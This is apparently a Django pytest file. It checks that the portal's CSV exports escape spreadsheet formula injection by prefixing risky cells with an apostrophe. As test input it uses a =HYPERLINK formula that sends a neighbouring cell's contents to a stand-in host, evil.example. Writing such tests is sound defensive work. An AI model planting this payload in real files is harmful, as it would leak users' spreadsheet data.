"""Every export is safe to open in a spreadsheet: no cell runs as a formula."""

import csv
import io

import pytest
from django.urls import reverse

from escalations import services as escalation_services
from incidents.resources import CustomerResource
from portal.exports import FORMULA_STARTS, safe_cell
from tests.factories import (
    CustomerFactory,
    IncidentFactory,
    UserFactory,
    request_test_credit,
    request_test_escalation,
)

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_nothing_runs(text: str) -> None:
    dangerous = [c for c in cells(text) if c.startswith(FORMULA_STARTS)]
    assert dangerous == []
    assert any(c.startswith("'=HYPERLINK") for c in cells(text))


@pytest.fixture
def evil_customer(agent, frozen_now):
    UserFactory(username="l2-member", role="Senior agent")
    customer = CustomerFactory(name=EVIL)
    for _ in range(2):
        request_test_escalation(IncidentFactory(customer=customer), agent)
    return customer


def test_the_metrics_export_neutralises_formulas(
    agent_client, evil_customer, frozen_now
):
    response = agent_client.get(
        reverse("escalations:metrics_export"),
        {"start": "2026-11-18", "end": "2026-11-18"},
    )

    assert response.status_code == 200
    assert_nothing_runs(response.content.decode())


def test_the_credits_export_neutralises_formulas(
    client, agent, manager, evil_customer, frozen_now
):
    incident = evil_customer.incidents.first()
    credit = request_test_credit(incident, agent, reason="+1 for a good try")
    escalation_services.approve_credit(credit=credit, actor=manager)
    client.force_login(manager)

    response = client.get(
        reverse("escalations:credit_export"), {"month": "2026-11", "basis": "requested"}
    )

    assert_nothing_runs(response.content.decode())


def test_the_customer_export_neutralises_formulas_and_round_trips(evil_customer):
    exported = CustomerResource().export().csv

    assert_nothing_runs(exported)
    from tablib import Dataset

    result = CustomerResource().import_data(
        Dataset().load(exported, format="csv"), dry_run=True
    )
    assert not result.has_errors()
    assert all(row.import_type in ("skip", "update") for row in result.rows)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_that_would_run_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


def test_numbers_stay_numbers():
    assert safe_cell(-12) == -12
